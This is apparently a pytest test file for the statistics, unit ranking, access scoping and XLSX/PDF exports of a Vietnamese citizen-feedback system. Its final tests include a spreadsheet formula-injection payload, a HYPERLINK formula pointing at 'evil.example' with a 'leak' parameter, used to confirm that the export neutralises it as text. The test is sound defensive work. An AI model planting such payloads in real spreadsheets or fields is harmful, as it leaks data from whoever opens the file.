"""Statistics of 1022: exact figures on hand-built reports, the ranking of the 168 units, trends, access,
exports and the public ranking. Runs on SQLite (percentiles in Python) and PostgreSQL (in the database)."""

import io
import re
from datetime import date, datetime, timedelta
from itertools import count
from zoneinfo import ZoneInfo

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import make_staff
from thongsuot.directory.models import Organisation
from thongsuot.feedback import stats, stats_export
from thongsuot.feedback.models import Category, Report, ReportEvent
from thongsuot.feedback.states import Status

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
TODAY = date(2026, 11, 24)
MARCH = {"start": date(2026, 3, 1), "end": date(2026, 3, 31)}
_codes = count(1)


@pytest.fixture(autouse=True)
def _fresh_cache():
    cache.clear()
    yield
    cache.clear()


def at(day: int, hour: int = 9, minute: int = 0, month: int = 3) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=HCM)


def make(org, *, received, hours=None, due=date(2026, 3, 9), status=None, satisfied=None, category="ha-tang-ky-thuat",
         channel="web", **fields):  # fmt: skip
    resolved_at = received + timedelta(hours=hours) if hours is not None else None
    return Report.objects.create(
        code=f"PA-TEST-{next(_codes):06d}",
        category=Category.objects.get(code=category),
        channel=channel,
        description="Đèn đường hỏng trên đường Lê Lợi.",
        contact_name="Nguyễn Văn Dân",
        contact_phone="0901234567",
        contact_email="dan@example.test",
        organisation=org,
        status=status or (Status.RESOLVED if hours is not None else Status.IN_PROGRESS),
        received_at=received,
        forwarded_at=received + timedelta(minutes=3),
        resolved_at=resolved_at,
        due_date=due,
        satisfied=satisfied,
        rating=None if satisfied is None else (5 if satisfied else 2),
        **fields,
    )


@pytest.fixture
def third_unit(db):
    return (
        Organisation.objects.filter(kind="commune", is_active=True)
        .exclude(name__in=["Phường Bến Thành", "Phường Sài Gòn"])
        .order_by("name")
        .first()
    )


@pytest.fixture
def data(ben_thanh, sai_gon, third_unit, ward_admin):
    """Bến Thành: 6 reports in March (4 resolved after 10, 20, 30 and 200 hours, 3 on time; 1 overdue now;
    1 not yet due), 3 rated (2 satisfied), 1 reopened, 1 returned to the dispatchers; a duplicate merged away
    and reports just outside March. Sài Gòn: 2 resolved on time (1 rated, satisfied). A third unit: 1."""
    r1 = make(ben_thanh, received=at(2), hours=10, status=Status.CLOSED, satisfied=True)
    make(ben_thanh, received=at(2, 10), hours=20, satisfied=False, channel="hotline", reopen_count=1)
    make(ben_thanh, received=at(3), hours=30, status=Status.PUBLISHED)
    make(ben_thanh, received=at(2, 9), hours=200, status=Status.RATED, satisfied=True)  # resolved 10/03: late
    make(ben_thanh, received=at(4), due=date(2026, 3, 10), category="giao-thong")  # in progress: overdue now
    make(ben_thanh, received=at(31, 23, 30), due=date(2099, 1, 5), status=Status.ASSIGNED, category="giao-thong")
    make(ben_thanh, received=at(5), hours=1, merged_into=r1)  # a duplicate: left out
    make(ben_thanh, received=at(28, 23, 30, month=2), hours=1)  # 28/02 local: before the period
    make(ben_thanh, received=datetime(2026, 3, 31, 17, 30, tzinfo=ZoneInfo("UTC")), hours=1)  # 01/04 local: after
    returned = make(sai_gon, received=at(6), hours=5, satisfied=True, channel="hotline", return_count=1)
    ReportEvent.objects.create(
        report=returned, actor=ward_admin, action="return", from_status=Status.ASSIGNED, to_status=Status.VERIFIED
    )
    make(sai_gon, received=at(7), hours=15)
    make(third_unit, received=at(8), hours=2, satisfied=True)
    return {"r1": r1}


def by_key(rows):
    return {row.key: row for row in rows}


# Figures ----------------------------------------------------------------------------------------


def test_figures_per_unit(data, ben_thanh, sai_gon):
    rows = by_key(stats.period_stats(**MARCH, group_by="organisation", today=TODAY))
    bt = rows[ben_thanh.pk]
    assert (bt.received, bt.resolved, bt.on_time, bt.overdue_now) == (6, 4, 3, 1)
    assert bt.on_time_rate == 75.0
    assert bt.median_hours == 25.0  # 10, 20, 30, 200
    assert bt.p90_hours == 149.0  # 30 + 0.7 × 170
    assert (bt.rated, bt.satisfied, bt.satisfaction_rate) == (3, 2, 66.67)
    assert (bt.reopened, bt.returned) == (1, 1)  # returned: counted for the unit that sent it back
    sg = rows[sai_gon.pk]
    assert (sg.received, sg.resolved, sg.on_time, sg.returned, sg.median_hours, sg.p90_hours) == (2, 2, 2, 0, 10, 14)
    total = stats.period_total(**MARCH, today=TODAY)
    assert (total.received, total.resolved, total.on_time, total.returned) == (9, 7, 6, 1)


def test_figures_per_category_and_channel(data):
    rows = by_key(stats.period_stats(**MARCH, group_by="category", today=TODAY))
    infra = rows[Category.objects.get(code="ha-tang-ky-thuat").pk]
    traffic = rows[Category.objects.get(code="giao-thong").pk]
    assert (infra.received, infra.resolved, infra.returned) == (7, 7, 1)
    assert (traffic.received, traffic.resolved, traffic.overdue_now) == (2, 0, 1)
    assert len(rows) == Category.objects.filter(is_active=True).count()  # every category, zero rows too
    channels = by_key(stats.period_stats(**MARCH, group_by="channel", today=TODAY))
    assert (channels["hotline"].received, channels["hotline"].satisfied, channels["hotline"].rated) == (2, 1, 2)
    assert channels["web"].received == 7 and channels["zalo"].received == 0


def test_on_time_uses_the_vietnamese_day(ben_thanh):
    # resolved 10/03 06:00 in Vietnam = 09/03 23:00 UTC: late against a due date of 09/03
    make(ben_thanh, received=at(2), hours=7 * 24 + 21)
    make(ben_thanh, received=at(2), hours=7 * 24 + 14)  # 09/03 23:00 local: on time
    row = by_key(stats.period_stats(**MARCH, today=TODAY))[ben_thanh.pk]
    assert (row.resolved, row.on_time) == (2, 1)


def test_percentile_matches_percentile_cont():
    assert stats.percentile([1.0], 0.9) == 1.0
    assert stats.percentile([10.0, 20.0, 30.0, 200.0], 0.5) == 25.0
    assert stats.percentile([], 0.5) is None


# Ranking ----------------------------------------------------------------------------------------


def test_ranking_has_all_168_units_in_score_order(data, ben_thanh, sai_gon, third_unit):
    ranking = stats.unit_ranking(**MARCH, today=TODAY)
    assert len(ranking) == 168 == len({r.key for r in ranking})
    # Sài Gòn 100 (2 resolved) before the third unit 100 (1 resolved): ties go to more resolved reports
    assert [(r.key, r.rank, r.score) for r in ranking[:3]] == [
        (sai_gon.pk, 1, 100.0),
        (third_unit.pk, 2, 100.0),
        (ben_thanh.pk, 3, 62.0),  # 100 × (0.7 × 3/(4+1) + 0.3 × 2/3)
    ]
    assert all(r.rank is None and r.score is None and r.received == 0 for r in ranking[3:])
    names = [r.label for r in ranking[3:]]
    assert names == sorted(names, key=stats.fold)
    assert ranking == stats.unit_ranking(**MARCH, today=TODAY)  # deterministic


def test_score_without_ratings_is_timeliness(ben_thanh):
    make(ben_thanh, received=at(2), hours=10)
    make(ben_thanh, received=at(2), hours=300)
    row = next(r for r in stats.unit_ranking(**MARCH, today=TODAY) if r.key == ben_thanh.pk)
    assert (row.rank, row.score) == (1, 50.0)


# Trend ------------------------------------------------------------------------------------------


def test_trend_by_day_week_and_month(data, ben_thanh):
    days = stats.trend(**MARCH, bucket="day")
    assert len(days) == 31 and days[0].start == date(2026, 3, 1)
    by_day = {p.start: p for p in days}
    assert by_day[date(2026, 3, 2)].received == 3 and by_day[date(2026, 3, 31)].received == 1
    assert sum(p.received for p in days) == 9
    # resolved by the day of resolution: 02/03 19:00 (10 h) and 03/03 06:00 (20 h)
    assert by_day[date(2026, 3, 2)].resolved == 1 and by_day[date(2026, 3, 3)].resolved == 1
    weeks = stats.trend(**MARCH, bucket="week", organisation_id=ben_thanh.pk)
    assert weeks[0].start == date(2026, 2, 23)  # the Monday of the week of 01/03
    assert sum(p.received for p in weeks) == 6
    # by resolution day: the report received 28/02 23:30 was resolved on 01/03
    assert sum(p.resolved for p in weeks) == 5 and sum(p.on_time for p in weeks) == 4
    months = stats.trend(start=date(2026, 1, 1), end=date(2026, 12, 31), bucket="month")
    assert [p.start.month for p in months] == list(range(1, 13))
    assert months[1].received == 1 and months[2].received == 9 and months[3].received == 1


def test_periods():
    assert stats.parse_period("2025-09").start == date(2025, 9, 1)
    assert stats.parse_period("2025-09").end == date(2025, 9, 30)
    assert (stats.parse_period("2025-Q3").start, stats.parse_period("2025-Q3").end) == (
        date(2025, 7, 1),
        date(2025, 9, 30),
    )
    assert stats.parse_period("2024").end == date(2024, 12, 31)
    assert stats.preset_period("last_month", date(2026, 1, 15)).start == date(2025, 12, 1)
    assert stats.preset_period("this_quarter", date(2026, 5, 15)).end == date(2026, 6, 30)
    with pytest.raises(ValidationError):
        stats.parse_period("2025-13")


# Access -----------------------------------------------------------------------------------------


def test_unit_staff_see_only_their_unit(
    data, ben_thanh, sai_gon, ward_admin, other_ward_admin, city_leader, dispatcher
):
    assert [r.key for r in stats.period_stats(**MARCH, user=ward_admin)] == [ben_thanh.pk]
    mine = stats.period_stats(**MARCH, user=other_ward_admin)
    assert [(r.key, r.received, r.returned) for r in mine] == [(sai_gon.pk, 2, 0)]
    assert stats.period_total(**MARCH, user=other_ward_admin).received == 2
    assert sum(r.received for r in stats.period_stats(**MARCH, group_by="channel", user=other_ward_admin)) == 2
    assert sum(p.received for p in stats.trend(**MARCH, user=other_ward_admin)) == 2
    assert stats.period_total(**MARCH, user=city_leader).received == 9
    assert stats.period_total(**MARCH, user=dispatcher).received == 9  # the 1022 dispatchers: every unit


def test_staff_page_is_scoped(data, login, other_ward_admin, ben_thanh):
    client = login(other_ward_admin)
    response = client.get(reverse("feedback:stats"), {"start": "01/03/2026", "end": "31/03/2026"})
    assert response.status_code == 200
    body = response.content.decode()
    assert "Phường Sài Gòn" in body and "Phường Bến Thành" not in body
    assert "<svg" in body and "<polyline" in body
    for name in ("organisation", "category", "channel"):
        assert client.get(reverse("feedback:stats"), {"preset": "last_month", "group_by": name}).status_code == 200
    htmx = client.get(reverse("feedback:stats"), {"preset": "this_year"}, HTTP_HX_REQUEST="true")
    assert htmx.status_code == 200 and b"<html" not in htmx.content
    assert client.get(reverse("feedback:stats"), {"start": "31/03/2026", "end": "01/03/2026"}).status_code == 400


def test_staff_page_for_the_city(data, login, city_leader):
    response = login(city_leader).get(reverse("feedback:stats"), {"start": "01/03/2026", "end": "31/03/2026"})
    body = response.content.decode()
    assert "Phường Sài Gòn" in body and "Phường Bến Thành" in body


def test_citizens_and_visitors_have_no_staff_statistics(client, citizen):
    assert client.get(reverse("feedback:stats")).status_code == 302
    client.force_login(citizen, backend="django.contrib.auth.backends.ModelBackend")
    assert client.get(reverse("feedback:stats")).status_code == 403
    assert client.get("/api/v1/feedback/stats/", {"start": "2026-03-01", "end": "2026-03-31"}).status_code == 403


def test_api_is_scoped(data, login, other_ward_admin, ben_thanh, sai_gon):
    client = login(other_ward_admin)
    response = client.get("/api/v1/feedback/stats/", {"start": "2026-03-01", "end": "2026-03-31"})
    assert response.status_code == 200
    payload = response.json()
    assert [(r["key"], r["received"]) for r in payload["rows"]] == [(sai_gon.pk, 2)]
    assert payload["total"]["received"] == 2
    query = {"start": "2026-03-01", "end": "2026-03-31", "organisation_id": ben_thanh.pk}
    assert client.get("/api/v1/feedback/stats/", query).status_code == 403
    assert client.get("/api/v1/feedback/stats/trend", query).status_code == 403
    trend = client.get("/api/v1/feedback/stats/trend", {"start": "2026-03-01", "end": "2026-03-31"}).json()
    assert trend["bucket"] == "day" and sum(p["received"] for p in trend["points"]) == 2
    bad = client.get("/api/v1/feedback/stats/", {"start": "2026-03-31", "end": "2026-03-01"})
    assert bad.status_code == 400


def test_api_for_the_city(data, login, city_leader, ben_thanh):
    client = login(city_leader)
    payload = client.get("/api/v1/feedback/stats/", {"start": "2026-03-01", "end": "2026-03-31"}).json()
    assert payload["total"]["received"] == 9
    bt = next(r for r in payload["rows"] if r["key"] == ben_thanh.pk)
    assert (bt["median_hours"], bt["p90_hours"], bt["on_time_rate"]) == (25.0, 149.0, 75.0)


# Exports ----------------------------------------------------------------------------------------


def test_xlsx_export(data, login, city_leader):
    response = login(city_leader).get(
        reverse("feedback:stats_xlsx"), {"start": "01/03/2026", "end": "31/03/2026", "group_by": "organisation"}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('20260301-20260331.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    bt = next(r for r in rows if r[0] == "Phường Bến Thành")
    assert bt[1:5] == [6, 4, 3, 75]
    assert any(r[0] == "Phường Sài Gòn" for r in rows)


def test_xlsx_export_is_scoped(data, login, ward_admin):
    response = login(ward_admin).get(reverse("feedback:stats_xlsx"), {"start": "01/03/2026", "end": "31/03/2026"})
    names = [r[0] for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
    assert "Phường Bến Thành" in names and "Phường Sài Gòn" not in names


def _page_count(pdf: bytes) -> int:
    pages = len(re.findall(rb"/Type /Page\b(?!s)", pdf))
    assert int(re.search(rb"/Count (\d+)", pdf).group(1)) == pages
    return pages


def test_pdf_export(data, login, city_leader):
    response = login(city_leader).get(
        reverse("feedback:stats_pdf"), {"start": "01/03/2026", "end": "31/03/2026", "group_by": "category"}
    )
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert b"DejaVuSans" in response.content and _page_count(response.content) == 1


def test_ranking_pdf_runs_over_pages(data):
    period = stats.Period(**MARCH)
    pdf = stats_export.ranking_pdf(rows=stats.unit_ranking(**MARCH, today=TODAY), period=period)
    assert pdf.startswith(b"%PDF") and _page_count(pdf) >= 4


def test_ranking_xlsx_lists_every_unit(data):
    response = stats_export.ranking_xlsx(rows=stats.unit_ranking(**MARCH, today=TODAY), period=stats.Period(**MARCH))
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len([r for r in rows[1:] if r and r[1]]) == 168 and rows[1][1] == "Phường Sài Gòn"


# Public -----------------------------------------------------------------------------------------


def test_public_ranking_page(data, client, sai_gon):
    response = client.get(reverse("feedback:ranking"), {"period": "2026-03"})
    assert response.status_code == 200
    body = response.content.decode()
    assert body.count('<th scope="row">') == 168
    assert body.index("Phường Sài Gòn") < body.index("Phường Bến Thành")
    assert "0.7" in body or "70%" in body  # the formula is on the page
    for secret in ("0901234567", "dan@example.test", "Nguyễn Văn Dân", "Đèn đường hỏng"):
        assert secret not in body
    assert client.get(reverse("feedback:ranking"), {"period": "2026-Q1"}).status_code == 200
    assert client.get(reverse("feedback:ranking"), {"period": "2026"}).status_code == 200
    assert client.get(reverse("feedback:ranking"), {"period": "nonsense"}).status_code == 400


def test_public_ranking_json(data, client, sai_gon, ben_thanh):
    response = client.get("/api/v1/feedback/stats/ranking", {"period": "2026-03"})
    assert response.status_code == 200
    payload = response.json()
    assert payload["units"] == 168 == len(payload["rows"])
    assert (payload["rows"][0]["code"], payload["rows"][0]["rank"]) == (sai_gon.code, 1)
    bt = next(r for r in payload["rows"] if r["key"] == ben_thanh.pk)
    assert (bt["score"], bt["received"], bt["on_time_rate"]) == (62.0, 6, 75.0)
    assert "0901234567" not in response.content.decode() and "contact" not in response.content.decode()
    assert client.get("/api/v1/feedback/stats/ranking", {"period": "2026-13"}).status_code == 400
    for not_published in ("2026-W10", "2026-03-02"):  # the ranking is by month, quarter or year only
        assert client.get("/api/v1/feedback/stats/ranking", {"period": not_published}).status_code == 400
        assert client.get(reverse("feedback:ranking"), {"period": not_published}).status_code == 400


def test_public_link(client, db):
    assert reverse("feedback:ranking") in client.get(reverse("feedback:public_list")).content.decode()


def test_handler_sees_own_unit_through_a_role(data, ben_thanh):
    handler = make_staff("xuly@benthanh.test", ben_thanh, ["feedback_handler"])
    assert [r.key for r in stats.period_stats(**MARCH, user=handler)] == [ben_thanh.pk]


def test_returns_through_the_services_count_for_the_returning_unit(ben_thanh, sai_gon, ward_admin, centre_admin):
    from django.utils import timezone

    from thongsuot.feedback import services
    from thongsuot.feedback.testing import submit

    report = services.report_assign(actor=centre_admin, report=submit(), organisation=ben_thanh)
    services.report_return(actor=ward_admin, report=report, reason="Địa điểm thuộc Phường Sài Gòn.")
    services.report_assign(actor=centre_admin, report=report, organisation=sai_gon)
    today = timezone.localdate()
    rows = by_key(stats.period_stats(start=today, end=today, today=today))
    assert (rows[ben_thanh.pk].received, rows[ben_thanh.pk].returned) == (0, 1)
    assert (rows[sai_gon.pk].received, rows[sai_gon.pk].returned) == (1, 0)
    assert [(r.key, r.returned) for r in stats.period_stats(start=today, end=today, user=ward_admin)] == [
        (ben_thanh.pk, 1)
    ]


def test_forwarded_within_five_minutes(ben_thanh, sai_gon):
    quick = make(ben_thanh, received=at(2), hours=10)  # forwarded after 3 minutes
    slow = make(ben_thanh, received=at(3), hours=10)
    Report.objects.filter(pk=slow.pk).update(forwarded_at=slow.received_at + timedelta(minutes=12))
    edge = make(sai_gon, received=at(4), hours=10)
    Report.objects.filter(pk=edge.pk).update(forwarded_at=edge.received_at + timedelta(minutes=5))
    waiting = make(sai_gon, received=at(5))
    Report.objects.filter(pk=waiting.pk).update(forwarded_at=None, organisation=None)
    rows = {r.key: r for r in stats.period_stats(start=date(2026, 3, 1), end=date(2026, 3, 31))}
    assert (rows[ben_thanh.pk].forwarded, rows[ben_thanh.pk].forwarded_in_time) == (2, 1)
    assert rows[ben_thanh.pk].forwarded_in_time_rate == 50.0
    assert rows[sai_gon.pk].forwarded_in_time_rate == 100.0  # exactly 5 minutes is within the target
    total = stats.period_total(start=date(2026, 3, 1), end=date(2026, 3, 31))
    assert (total.forwarded, total.forwarded_in_time) == (3, 2) and quick.forwarded_at is not None
    assert (
        "forwarded_in_time_rate" not in stats.unit_ranking(start=date(2026, 3, 1), end=date(2026, 3, 31))[0].as_dict()
    )


def test_the_ranking_page_defines_only_its_own_columns(client, db):
    body = client.get("/phan-anh/xep-hang/").content.decode()
    assert "Thời gian xử lý:" in body and "Chuyển xử lý trong 5 phút" not in body


def test_the_public_ranking_defaults_to_the_last_complete_month(client, db):
    from unittest import mock

    with mock.patch("django.utils.timezone.localdate", return_value=date(2027, 1, 3)):
        body = client.get(reverse("feedback:ranking")).content.decode()
        payload = client.get("/api/v1/feedback/stats/ranking").json()
    assert 'value="2026-12" selected' in body and "01/12/2026" in body and "31/12/2026" in body
    assert payload["period"] == "2026-12"


def test_the_ranking_page_has_one_definition_of_on_time(data, client, ben_thanh):
    body = client.get(reverse("feedback:ranking"), {"period": "2026-03"}).content.decode()
    assert "Tỷ lệ đúng hạn" not in body  # on time ÷ resolved: another definition than the score's
    assert "Mức độ đúng hạn = " in body
    row = next(r for r in stats.unit_ranking(**MARCH, today=TODAY) if r.key == ben_thanh.pk)
    assert row.timeliness_rate != row.on_time_rate  # the two definitions differ on this data
    cells = body.split(f'<th scope="row">{ben_thanh.name}</th>', 1)[1].split("</tr>", 1)[0]
    assert f"{row.timeliness_rate:.1f}".replace(".", ",") + "%" in cells


def test_the_chart_stops_at_today_and_needs_no_inline_style(client, login, ward_admin):
    from django.utils import timezone

    today = timezone.localdate()
    response = login(ward_admin).get(reverse("feedback:stats"), {"preset": "this_month", "group_by": "organisation"})
    points = response.context["points"]
    assert points[0].start == today.replace(day=1) and points[-1].start == today  # not the rest of the month
    chart = response.content.decode().split('<figure class="chart">', 1)[1].split("</figure>", 1)[0]
    assert "style=" not in chart  # the content security policy blocks inline styles
    assert 'font-size="11"' in chart


def test_pdf_rounds_as_the_page_and_the_xlsx(monkeypatch):
    """59 of 400 on time is 14.75 %: the page shows 14,8, so must the PDF (it truncated to 14,7)."""
    from django.utils import translation
    from fpdf.table import Row as PdfRow

    written = []
    original = PdfRow.cell

    def spy(self, text="", *args, **kwargs):
        written.append(text)
        return original(self, text, *args, **kwargs)

    monkeypatch.setattr(PdfRow, "cell", spy)
    row = stats.Row(key=1, label="Phường Bến Thành", received=420, resolved=400, on_time=59)
    assert row.on_time_rate == 14.75
    with translation.override("vi"):
        stats_export.stats_pdf(rows=[row], total=None, period=stats.Period(**MARCH), group_by="organisation")
    cells = written[written.index("Phường Bến Thành") :]
    assert cells[4] == "14,8"


def test_a_category_named_like_a_formula_is_text_in_the_xlsx(data, login, city_leader):
    evil = '=HYPERLINK("http://evil.example/?leak","x")'
    Category.objects.filter(code="giao-thong").update(name=evil)
    response = login(city_leader).get(
        reverse("feedback:stats_xlsx"), {"start": "01/03/2026", "end": "31/03/2026", "group_by": "category"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].value == "'" + evil  # text, not a live formula
    assert b"<f>" not in _sheet_xml(response.content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
